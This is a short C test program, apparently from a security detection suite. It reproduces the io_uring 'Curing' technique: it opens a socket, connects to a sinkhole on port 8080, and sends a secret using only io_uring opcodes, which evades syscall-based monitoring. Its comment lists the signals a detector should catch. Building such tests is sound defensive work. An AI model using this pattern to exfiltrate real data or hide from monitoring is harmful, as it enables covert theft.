// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Makes a socket, connects it and sends a secret, all by io_uring.
 * Known from: ARMO's "Curing", whose command channel worked so.
 * First: odd doors (io_uring_submit_req, by opcode); the cgroup hook's copy of the address
 * Second: the sinkhole's record of the bytes; inet_sock_set_state
 */
#include "ring.h"

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int fd;

	make_ring(0);
	fd = submit((struct io_uring_sqe){ .opcode = IORING_OP_SOCKET,
					   .fd = AF_INET,
					   .off = SOCK_STREAM });
	submit((struct io_uring_sqe){ .opcode = IORING_OP_CONNECT,
				      .fd = fd,
				      .addr = (unsigned long)&to,
				      .off = sizeof(to) });
	submit((struct io_uring_sqe){ .opcode = IORING_OP_SEND,
				      .fd = fd,
				      .addr = (unsigned long)secret(),
				      .len = strlen(secret()) });
	finish(fd);
	performed();
}
